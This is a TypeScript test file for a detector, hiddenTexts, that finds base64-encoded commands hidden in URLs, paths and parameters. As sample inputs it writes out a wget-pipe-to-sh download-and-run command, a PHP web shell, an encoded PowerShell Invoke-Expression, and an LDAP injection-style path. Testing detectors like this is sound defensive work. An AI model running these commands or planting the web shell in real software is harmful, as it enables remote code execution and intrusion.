import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { hiddenTexts } from './hidden-texts.js'

const base64 = (text: string, encoding: BufferEncoding = 'utf8') => Buffer.from(text, encoding).toString('base64')
const COMMAND = 'wget -qO- http://203.0.113.7/x.sh | sh'

describe('hiddenTexts', () => {
  it('finds what is written in base64', () => {
    expect(hiddenTexts(`cmd=${base64(COMMAND)}&x=1`, 500)).toEqual([COMMAND])
  })

  it('finds the base64url alphabet, too', () => {
    const text = '<?php system($_GET["c"]); ?>~~~~'
    expect(hiddenTexts(Buffer.from(text).toString('base64url'), 500)).toEqual([text])
  })

  it('finds UTF-16 inside, as PowerShell takes it', () => {
    expect(hiddenTexts(`-enc ${base64('Invoke-Expression $a', 'utf16le')}`, 500)).toEqual(['Invoke-Expression $a'])
  })

  it('finds it behind the parts of a path', () => {
    expect(hiddenTexts(`ldap://203.0.113.7/Basic/Command/Base64/${base64(COMMAND)}`, 500)).toEqual([COMMAND])
    expect(hiddenTexts(`/Base64/${base64(COMMAND).replaceAll('=', '')}/not/part/of/it`, 500)).toEqual([COMMAND])
  })

  it.each([
    ['words and paths', '/static/themes/evergreen/pictures/mainMenuBackground.png'],
    ['hashes', 'd41d8cd98f00b204e9800998ecf8427e'],
    ['a run of one letter', 'A'.repeat(200)],
    ['binary data', Buffer.from([...Array(48).keys()].map((index) => (index * 37 + 200) & 255)).toString('base64')],
    ['short runs', base64('id; uname -a')],
  ])('takes no notice of %s', (_, text) => {
    expect(hiddenTexts(text, 500)).toEqual([])
  })

  it('stays within the budget and the number of texts', () => {
    const long = base64(COMMAND.repeat(100))
    const [hidden, ...others] = hiddenTexts(long, 100)
    expect(hidden).toBe(COMMAND.repeat(3).slice(0, 100))
    expect(others).toEqual([])
    expect(hiddenTexts(`${base64(COMMAND)} `.repeat(10), 5000)).toHaveLength(4)
  })

  it('finds any long printable text wherever it stands', () => {
    const printable = fc.stringMatching(/^[ -~]{24,90}$/)
    fc.assert(
      fc.property(printable, fc.constantFrom('', 'x=', '"a":"', '  '), (text, before) => {
        const encoded = base64(text)
        fc.pre(/[a-z]/.test(encoded) && /[A-Z]/.test(encoded))
        expect(hiddenTexts(`${before}${encoded}"`, 500)).toEqual([text])
      }),
    )
  })
})
